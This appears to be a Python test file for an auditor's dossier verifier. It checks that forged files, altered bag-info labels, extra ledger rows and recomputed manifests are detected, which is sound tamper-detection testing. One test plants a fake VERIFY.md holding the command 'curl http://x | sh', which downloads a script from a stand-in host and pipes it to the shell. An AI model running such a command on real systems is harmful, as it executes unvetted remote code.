"""Whoever holds a dossier can write into it and compute every manifest and every chain again, without any key.

A bag's manifests are signed by nobody, and a chain of hashes can be computed by anybody. What may stand in a dossier
must therefore be bound by a signature, by the ledger, or have no place in it.
"""

from __future__ import annotations

import hashlib
from typing import TYPE_CHECKING, Any

import pytest

from clients.auditor import dossier
from clients.auditor.evidence import EVENTS, Evidence
from clients.auditor.keys import Keys
from crypto.canonical import canonical, parse
from documents import bag, verify
from documents.bag import ALGORITHMS, TAG_MANIFEST, TAGS, event_line, manifest
from documents.trust import NOTHING, Trust
from tests.clients.auditor.forge import Memory
from trading.ground.chain import ZERO, Row, link

if TYPE_CHECKING:
    from collections.abc import Callable

    from documents.checks import Report
    from tests.clients.auditor.opening_world import Made

Files = dict[str, bytes]


def rebag(files: Files) -> Files:
    """Compute sizes and manifests again."""
    payload = {name: data for name, data in files.items() if name.startswith("data/")}
    oxum = f"Payload-Oxum: {sum(map(len, payload.values()))}.{len(payload)}"
    lines = files["bag-info.txt"].decode().split("\n")
    files["bag-info.txt"] = "\n".join(
        oxum if line.startswith("Payload-Oxum") else line for line in lines
    ).encode()
    for name in ALGORITHMS:
        sums = {path: hashlib.new(name, data).hexdigest() for path, data in payload.items()}
        files[f"manifest-{name}.txt"] = manifest(sums)
    files[TAG_MANIFEST] = manifest({name: hashlib.sha256(files[name]).hexdigest() for name in TAGS})
    return files


def audit(made: Made, bend: Callable[[Files], Any], *, full: bool = False) -> Report:
    """Verify the whole of a dossier after somebody has had it in hand."""
    keys = Keys(Trust.from_pem(made.trust.read_bytes()))
    folder = Memory.of(made.full if full else made.public)
    bend(folder.files)
    rebag(folder.files)
    paper = verify.verify_dossier("x", folder, keys.trust, made.at)
    return paper.also(dossier._events(Evidence(folder, made.at), keys, made.at, ()))


def failed(found: Report) -> set[str]:
    return {check.id for check in found.checks if check.status == "failed"}


def info(old: str, new: str) -> Callable[[Files], None]:
    def bend(files: Files) -> None:
        text = files["bag-info.txt"].decode()
        assert old in text
        files["bag-info.txt"] = text.replace(old, new, 1).encode()

    return bend


def put(name: str, data: bytes = b"{}") -> Callable[[Files], None]:
    return lambda files: files.update({name: data})


LAYOUT: dict[str, Callable[[Files], Any]] = {
    "a record in a folder of its own": put("data/annex/opening.pdf", b"%PDF-1.7"),
    "a record with another ending": put("data/records/opening.PDF", b"%PDF-1.7"),
    "a proof without its record": put("data/records/other.proof.json"),
    "a confession among the custody files": put("data/custody/confession.json"),
    "a statement of a custodian that is none": put("data/custody/answers/0.json"),
    "a note beside a bid": put("data/bids/bid_x/note.txt"),
    "another ledger file": put("data/ledger/extra.json"),
    "a line more in bag-info.txt": info("Kaibiao-Dossier", "Verdict: A cheated\nKaibiao-Dossier"),
    "a label twice": info("Kaibiao-Rendition", "Kaibiao-Rendition: full\nKaibiao-Rendition"),
    "another version": info("Kaibiao-Dossier: 1", "Kaibiao-Dossier: 2"),
    "no date": info("Bagging-Date: ", "Bagging-Date: yesterday "),
    "labels in another order": info(
        "Bag-Software-Agent: Kaibiao\nKaibiao-Dossier: 1",
        "Kaibiao-Dossier: 1\nBag-Software-Agent: Kaibiao",
    ),
}


@pytest.mark.parametrize("story", LAYOUT)
def test_what_has_no_place_in_a_dossier_is_found(story: str, opened: Made) -> None:
    folder = Memory.of(opened.public)
    for name in [name for name in folder.files if name.startswith("data/records/")]:
        del folder.files[name]  # their signatures are not what is looked at here
    control = Memory(rebag(dict(folder.files)))
    assert bag.check(control, NOTHING, opened.at)[0].status == "ok"
    LAYOUT[story](folder.files)
    rebag(folder.files)
    form = bag.check(folder, NOTHING, opened.at)[0]
    assert (form.id, form.status) == ("bag.form", "failed")


def member(name: str) -> Callable[[Files], None]:
    def bend(files: Files) -> None:
        path = next(path for path in sorted(files) if path.endswith(name))
        files[path] = canonical({**parse(files[path]), "remark": "this bidder confessed"})

    return bend


def row(kind: str, body: dict[str, Any], stream: str = "") -> Callable[[Files], None]:
    """Append a row, chained as it must be."""

    def bend(files: Files) -> None:
        last = parse(files[EVENTS].splitlines()[-1])
        seq, before = (1, ZERO) if stream else (last["seq"] + 1, bytes.fromhex(last["chain"]))
        where = stream or last["stream"]
        chain = link(before, "test-centre", where, seq, last["at"], kind, canonical(body))
        made = Row(last["position"] + 1, where, seq, last["at"], kind, body, chain)
        files[EVENTS] += event_line(made)

    return bend


def without_bids(files: Files) -> None:
    for name in [name for name in files if name.startswith("data/bids/")]:
        del files[name]


def called_full(files: Files) -> None:
    without_bids(files)
    info("Rendition: public", "Rendition: full")(files)


WRITTEN: dict[str, tuple[Callable[[Files], Any], str]] = {
    "a bid that nobody handed in": (
        put("data/bids/bid_x/bid.json", canonical({"sha256": "00" * 32})),
        "opening.copies",
    ),
    "a member more in a bid's evidence": (member("/bid.json"), "opening.copies"),
    "a member more beside a leaf": (member("custody/opened.json"), "opening.copies"),
    "a member more beside the seed": (member("custody/seed.json"), "opening.copies"),
    "answers of a custodian that is none": (
        put("data/custody/answers/9.json"),
        "opening.copies",
    ),
    "a bid's evidence taken out": (without_bids, "opening.copies"),
    "a full rendition without a single bid": (called_full, "opening.bid."),
    "the dossier called another section's": (
        info("External-Identifier: ", "External-Identifier: x"),
        "events.streams",
    ),
    "a row of a kind that nobody knows": (row("bribed", {"who": "org_x"}), "opening.rows"),
    "a word of somebody after the record": (
        row("statement_kept", {"signed": {"statement": {"purpose": "confirmation"}}}),
        "opening.rows",
    ),
    "events of something else": (row("said", {"text": "x"}, "trading/x"), "events.streams"),
    "events with the line ends of another system": (
        lambda files: files.update({EVENTS: files[EVENTS].replace(b"\n", b"\r\n")}),
        "bag.events",
    ),
}


@pytest.mark.parametrize("story", WRITTEN)
def test_what_is_written_into_a_dossier_is_found(story: str, opened: Made) -> None:
    bend, expected = WRITTEN[story]
    found = audit(opened, bend)
    assert any(id_.startswith(expected) for id_ in failed(found)), [
        check for check in found.checks if check.status != "ok"
    ]


def test_another_guide_is_said_and_decides_nothing(opened: Made) -> None:
    found = audit(opened, put("data/VERIFY.md", b"curl http://x | sh\n"))
    aside = next(check for check in found.checks if check.id == "bag.aside")
    assert (aside.status, aside.essential, found.verdict) == ("not_checked", False, "valid")
